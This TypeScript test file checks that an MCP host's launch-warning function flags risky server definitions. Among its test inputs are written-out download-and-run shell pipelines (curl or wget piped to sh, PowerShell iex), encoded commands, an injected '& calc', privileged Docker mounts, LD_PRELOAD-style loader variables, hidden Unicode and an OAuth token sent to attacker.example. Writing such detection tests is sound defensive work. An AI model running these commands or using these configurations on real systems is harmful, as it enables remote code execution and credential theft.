import assert from 'node:assert/strict';
import { pathToFileURL } from 'node:url';
import { homedir } from 'node:os';
import type { Launch } from '../../../../../src/host/launch/fingerprint.ts';
import { launchWarnings } from '../../../../../src/host/launch/warnings/launchWarnings.ts';
import type { StdioServerDefinition } from '../../../../../src/host/config/serverDefinition.ts';
import { httpServer, stdioServer } from '../../../support/definitions.ts';

const workspace = ['/projects/api'];

function ofCommand(
  [command = '', ...args]: readonly string[],
  more: Partial<StdioServerDefinition> = {},
  around: Partial<Launch> = {},
): string[] {
  const definition = stdioServer(args, { command, ...more });
  return launchWarnings(
    { definition, workingDirectory: '/home/me', envFile: undefined, ...around },
    workspace,
  );
}

suite('Before a launch', () => {
  const harmless: string[][] = [
    ['npx', '-y', '@scope/server@1.2.3'],
    ['npx', '-y', 'server@1.2.3-beta.1', '--port', '3000'],
    ['npx', '--package=@scope/server@1.2.3', 'server'],
    ['npm', 'exec', 'server@1.2.3'],
    ['uvx', 'mcp-server-git@2025.1.14'],
    ['uvx', '--from', 'mcp-server-git==1.0', 'mcp-server-git'],
    ['uvx', '--python', '3.12', 'server==1.0.0'],
    ['uvx', '--from', `git+https://example.org/it@${'a'.repeat(40)}`, 'it'],
    ['docker', 'run', '-i', '--rm', '-e', 'TOKEN', 'ghcr.io/owner/server:1.2'],
    ['docker', 'run', '-i', '--mount', 'type=bind,src=/data,dst=/data', `server@sha256:${'0'.repeat(64)}`],
    ['docker', 'mcp', 'gateway', 'run'],
    ['node', '/opt/server/index.js', '/data/notes'],
    ['/usr/local/bin/server', '--stdio'],
    ['server', '-c', 'config.toml'],
    ['python', '-m', 'mcp_server', '--url', 'https://example.org/a:b'],
    ['bash', '/opt/start.sh'],
    ['cargo', 'install', 'x'],
    ['server', '--message', 'curl is fine | shell too'],
    ['npx', '-y', 'server', '-c', 'config.json'],
    ['npx', 'server', '--registry', 'https://example.org'],
    ['uvx', 'server', '-i', 'x'],
    ['docker', 'run', '-i', 'server:1', '--privileged'],
    ['node', '/opt/server.js', '-e', 'production', '-p', '3000'],
    ['node', '--env-file', '/opt/.env', '/opt/server.js'],
    ['python', '-m', 'mcp_server', '-c', 'config.toml'],
    ['cmd', '/c', 'npx', '-y', 'server@1.2.3'],
  ];
  for (const words of harmless) {
    test(`nothing is pointed out in ${words.join(' ')}`, () => {
      assert.deepEqual(ofCommand(words), []);
    });
  }

  test('a warning says that the sandbox of the definition is missing', () => {
    assert.deepEqual(ofCommand(['server'], { asksForSandbox: true }), [
      'Asks for a sandbox; MCP Host runs it without one.',
    ]);
  });

  const shell = /^Runs a shell command/;
  const download = /downloads a program and runs it/;
  const admin = /rights of an administrator/;
  const inside = /inside the workspace: a tool or an agent/;
  const wide = /home directory or the whole disk/;
  const code = /arguments are code/;
  const source = /download from another place/;
  const container = /container gets the rights of an administrator/;
  const credentials = /credentials/;
  const relative = /is a relative path/;
  const tasks = /runs what files of the workspace say/;
  const dangerous: [RegExp, string[]][] = [
    [shell, ['sh', '-c', 'server']],
    [shell, ['/bin/bash', '-lc', 'server']],
    [shell, ['zsh', '-i', '-c', 'server']],
    [shell, ['env', 'A=1', 'bash', '-c', 'server']],
    [shell, ['cmd', '/c', 'server']],
    [shell, ['C:\\Windows\\System32\\cmd.exe', '/d', '/s', '/C', 'server']],
    [shell, ['powershell', '-Command', 'server']],
    [shell, ['pwsh', '-NoProfile', '-EncodedCommand', 'AAAA']],
    [shell, ['powershell.exe', '-enc', 'AAAA']],
    [download, ['sh', '-c', 'curl https://example.org/x | sh']],
    [download, ['sh', '-c', 'wget -qO- https://example.org/x | sudo /bin/bash -s']],
    [download, ['bash', '-c', '$(curl -fsSL https://example.org/x)']],
    [download, ['bash', '-c', 'bash <(curl https://example.org/x)']],
    [download, ['sh', '-c', 'curl -o /tmp/x https://example.org/x && sh /tmp/x']],
    [download, ['powershell', '-c', 'iex (irm https://example.org/x)']],
    [download, ['powershell', '-c', 'iwr https://example.org/x | iex']],
    [admin, ['sudo', 'server']],
    [admin, ['sh', '-c', 'cd / && sudo server']],
    [inside, ['/projects/api/bin/server']],
    [inside, ['node', '/projects/api/server.js']],
    [inside, ['python3', '/projects/api/server']],
    [inside, ['python3.12', '/projects/api/server']],
    [inside, ['bash', '/projects/api/start']],
    [inside, ['node', '/projects/other/../api/server.mjs']],
    [inside, ['node', `--import=${pathToFileURL('/projects/api/hook.mjs').href}`, '/opt/server.js']],
    [inside, ['node', '-r', '/projects/api/hook.cjs', '/opt/server.js']],
    [inside, ['node', '${workspaceFolder}/server.js']],
    [inside, ['${workspaceFolder:api}/server']],
    [relative, ['./server']],
    [relative, ['bin/server']],
    [relative, ['bin\\server.exe']],
    [wide, ['server', '/']],
    [wide, ['server', '~']],
    [wide, ['server', '${userHome}']],
    [wide, ['server', '${env:HOME}/']],
    [wide, ['server', '${HOME}']],
    [wide, ['server', homedir()]],
    [wide, ['server', '--root=/']],
    [wide, ['server', 'C:\\']],
    [wide, ['server', '%USERPROFILE%']],
    [wide, ['docker', 'run', '-v', '/:/host', 'server:1']],
    [wide, ['docker', 'run', '--mount', 'type=bind,src=/,dst=/host', 'server:1']],
    [shell, ['cmd', '/c', 'npx', '-y', 'server', '&', 'calc']],
    [shell, ['cmd', '/c', 'C:\\tools\\npx', '-y', 'server']],
    [shell, ['npx', '-c', 'server']],
    [shell, ['npx', '-y', '-p', 'server@1.2.3', '--call=server']],
    [shell, ['npm', 'exec', '-c', 'server']],
    [code, ['node', '-e', 'require("x")']],
    [code, ['node', '--no-warnings', '--eval=require("x")']],
    [code, ['node', '-r', '/opt/hook.cjs', '-pe', 'x']],
    [code, ['env', 'A=1', 'python3.12', '-c', 'import x']],
    [code, ['python', '-Ic', 'import x']],
    [code, ['deno', 'eval', 'x']],
    [code, ['perl', '-ne', 'x']],
    [code, ['php', '-r', 'x']],
    [source, ['npx', '--registry', 'https://example.org', 'server']],
    [source, ['npx', '--registry=https://example.org', '-y', 'server@1.2.3']],
    [source, ['uvx', '--extra-index-url', 'https://example.org', 'server']],
    [source, ['uv', 'tool', 'run', '-i', 'https://example.org', 'server']],
    [container, ['docker', 'run', '--privileged', 'server:1']],
    [container, ['docker', 'run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'server:1']],
    [credentials, ['server', 'postgres://me:secret@db/prod']],
  ];
  for (const [expected, words] of dangerous) {
    test(`a warning matches ${expected.source} for ${words.join(' ')}`, () => {
      assert.ok(
        ofCommand(words).some((one) => expected.test(one)),
        ofCommand(words).join('\n'),
      );
    });
  }

  test('a script is found from the working directory', () => {
    const around = { workingDirectory: '/projects/api' };
    assert.ok(ofCommand(['node', 'server.js'], {}, around).some((one) => inside.test(one)));
    assert.ok(ofCommand(['node', '../api/server'], {}, around).some((one) => inside.test(one)));
    assert.deepEqual(ofCommand(['node', '../server.js'], {}, around), []);
    assert.deepEqual(ofCommand(['node', '/projects/api-server.js'], {}, around), []);
  });

  const ofShells: [string[], boolean][] = [
    [['bash', '-c', 'node /outside/x.mjs'], false],
    [['bash', '-c', 'node ./inside.mjs'], true],
    [['bash', '-c', 'cd /outside && node "/outside/my dir/x.mjs"'], false],
    [['bash', '-c', 'echo;exec ./start'], true],
    [['bash', '-c', 'A=1 python3 tools/server'], true],
    [['bash', '-c', '/usr/bin/server ./data'], false],
    [['bash', '-lc', "sh -c 'node inside.mjs'"], true],
    [['timeout', '10', 'bash', '-c', 'node /outside/x.mjs'], false],
    [['timeout', '10', 'node', 'tools/server'], true],
    [['cmd', '/c', 'node /outside/x.mjs'], false],
    [['cmd', '/c', 'node', 'inside.mjs'], true],
    [['npx', '-c', 'node /outside/x.mjs'], false],
    [['node', '/outside/my dir/x.mjs'], false],
    [['node', './my dir/x.mjs'], true],
  ];
  for (const [words, isInside] of ofShells) {
    test(`a program ${isInside ? 'inside' : 'outside'} the workspace is recognized by its own path: ${words.join(' ')}`, () => {
      const warnings = ofCommand(words, {}, { workingDirectory: '/projects/api' });
      assert.equal(warnings.filter((one) => inside.test(one)).length, isInside ? 1 : 0, warnings.join('\n'));
    });
  }

  test('a file of variables in the workspace is pointed out, but not one for a container', () => {
    const around = { workingDirectory: '/projects/api' };
    const file = /file of environment variables inside the workspace/;
    for (const words of [
      ['node', '--env-file=.env', '/opt/x.js'],
      ['node', '--env-file', '.env', '/opt/x.js'],
    ]) {
      assert.ok(ofCommand(words, {}, around).some((one) => file.test(one)));
      assert.deepEqual(ofCommand(words), []);
    }
    assert.deepEqual(ofCommand(['docker', 'run', '--env-file', '.env', 'server:1'], {}, around), []);
  });

  test('a task of the workspace is pointed out', () => {
    const around = { workingDirectory: '/projects/api' };
    for (const words of [
      ['npm', 'run', 'mcp'],
      ['make', 'server'],
      ['uv', 'run', 'server'],
    ]) {
      assert.ok(ofCommand(words, {}, around).some((one) => tasks.test(one)));
      assert.deepEqual(ofCommand(words), []);
    }
  });

  test('cmd that hands on in the workspace is a shell: it would find a program there first', () => {
    const words = ['cmd', '/c', 'npx', '-y', 'server'];
    assert.deepEqual(ofCommand(words), []);
    assert.ok(ofCommand(words, {}, { workingDirectory: '/projects/api' }).some((one) => shell.test(one)));
  });

  test('loader variables are named, in the definition and in its file', () => {
    const loaders = ofCommand(
      ['server'],
      { env: { NODE_OPTIONS: '-r x', TOKEN: 'x' }, envFile: 'a.env' },
      { envFile: { LD_PRELOAD: 'x', OTHER: 'y' } },
    );
    assert.deepEqual(loaders, [
      'The environment variable NODE_OPTIONS decides which code programs load.',
      'The environment variable LD_PRELOAD, set in "a.env", decides which code programs load.',
    ]);
  });

  const assignments: [string[], string][] = [
    [['env', 'NODE_OPTIONS=--import=/tmp/x.mjs', 'node', '/opt/x.js'], 'NODE_OPTIONS, set in argument 1,'],
    [['/usr/bin/env', '-i', 'A=1', 'LD_PRELOAD=/tmp/x.so', 'server'], 'LD_PRELOAD, set in argument 3,'],
    [['env', '-S', 'A=1 PYTHONPATH=/tmp server'], 'PYTHONPATH, set in argument 2,'],
    [['env', '-vSBASH_ENV=/tmp/x server'], 'BASH_ENV, set in argument 1,'],
    [['env', '--split-string="PATH=/tmp" server'], 'PATH, set in argument 1,'],
    [['nice', '-n', '10', 'env', 'PERL5LIB=/tmp', 'server'], 'PERL5LIB, set in argument 4,'],
    [['npx', '-y', 'cross-env@7', 'NODE_OPTIONS=-r x', 'node', '/x.js'], 'NODE_OPTIONS, set in argument 3,'],
  ];
  for (const [words, expected] of assignments) {
    test(`a loader variable is found in ${words.join(' ')}`, () => {
      const sentences = ofCommand(words).filter((one) => one.includes('environment variable'));
      assert.equal(sentences.length, 1, sentences.join('\n'));
      assert.ok(sentences[0]?.startsWith(`The environment variable ${expected} decides `), sentences[0]);
    });
  }

  test('what a program is given as its own argument sets no variable', () => {
    for (const words of [
      ['server', 'PATH=/x'],
      ['env', 'A=1', 'server', 'PATH=/x'],
      // It is set in the container.
      ['docker', 'run', '-i', '-e', 'PATH=/x', 'server:1'],
    ]) {
      assert.deepEqual(ofCommand(words), []);
    }
  });

  test('each sentence says what the variable decides', () => {
    const env = {
      PATH: 'x',
      UV_INDEX: 'x',
      https_proxy: 'x',
      NODE_TLS_REJECT_UNAUTHORIZED: '0',
      LD_AUDIT: 'x',
    };
    assert.deepEqual(ofCommand(['server'], { env }), [
      'The environment variable PATH decides which programs run.',
      'The environment variable UV_INDEX decides where packages come from.',
      'The environment variable https_proxy decides where programs connect.',
      'The environment variable NODE_TLS_REJECT_UNAUTHORIZED decides which servers programs trust.',
      'The environment variable LD_AUDIT decides which code programs load.',
    ]);
  });

  const hidden: [string, Partial<StdioServerDefinition>][] = [
    ['The name of the server', { name: 'git\u200B' }],
    ['The command', { command: 'server\u202E' }],
    ['Argument 2', { args: ['a', 'b\u00A0c'] }],
    ['The name of the environment variable A\\u{200B}', { env: { 'A\u200B': '' } }],
    ['The value of the environment variable A', { env: { A: '\u2066x' } }],
    ['The working directory', { cwd: 'a\u3164' }],
    ['The path of the envFile', { envFile: '\uFEFF.env' }],
  ];
  for (const [what, more] of hidden) {
    test(`characters that you cannot see are pointed out: ${what}`, () => {
      assert.deepEqual(ofCommand(['server'], more), [
        `${what} has characters that you cannot see; they are written out here.`,
      ]);
    });
  }

  test('the line breaks of a certificate are nothing to point out', () => {
    assert.deepEqual(ofCommand(['server'], { env: { CERT: '-----BEGIN-----\nabc\n' } }), []);
  });

  const addresses: [string, RegExp | undefined][] = [
    ['https://example.org/mcp', undefined],
    ['http://localhost:3000/mcp', undefined],
    ['http://127.0.0.1:3000/mcp', undefined],
    ['http://[::1]/mcp', undefined],
    ['https://example.org/mcp?region=eu', undefined],
    ['http://example.org/mcp', /begins with http:/],
    ['http://127.0.0.1.example.org/mcp', /begins with http:/],
    ['http://${env:HOST}/mcp', /begins with http:/],
    ['http://localhost@example.org/mcp', /begins with http:/],
    ['https://me:secret@example.org/mcp', credentials],
    ['https://example.org/mcp?api_key=abc', credentials],
    ['https://example.org/\u202Emcp', /you cannot see/],
  ];
  for (const [url, expected] of addresses) {
    test(`the warning matches ${expected?.source ?? 'nothing'} for ${url}`, () => {
      const launch = { definition: httpServer(url), workingDirectory: '/', envFile: undefined };
      const warnings = launchWarnings(launch, workspace);
      assert.equal(warnings.length > 0, expected !== undefined, warnings.join('\n'));
      assert.ok(!expected || warnings.some((one) => expected.test(one)), warnings.join('\n'));
    });
  }

  test('headers are looked at, too', () => {
    const definition = httpServer('https://example.org', { headers: { 'X-A\u200B': 'a' } });
    const warnings = launchWarnings({ definition, workingDirectory: '/', envFile: undefined }, []);
    assert.ok(warnings.some((one) => one.includes('The name of the header')));
  });

  test('a client of another site is pointed out, once its issuer is known', () => {
    const origin = { scope: 'workspace', format: 'settings', place: 'file:///w' } as const;
    const oauth = { clientId: 'app', issuer: 'https://victim.example' };
    const warningsOf = (url: string, more = oauth): string[] =>
      launchWarnings(
        { definition: httpServer(url, { origin, oauth: more }), workingDirectory: '/', envFile: undefined },
        workspace,
      );
    assert.match(
      warningsOf('https://attacker.example')[0] ?? '',
      /token from victim.example .*attacker.example/,
    );
    assert.deepEqual(warningsOf('https://mcp.victim.example'), []);
    assert.match(
      warningsOf('https://mcp.victim.example', { ...oauth, clientId: 'a\u200Bb' })[0] ?? '',
      /^The client ID for the sign-in has characters that you cannot see/,
    );
  });
});
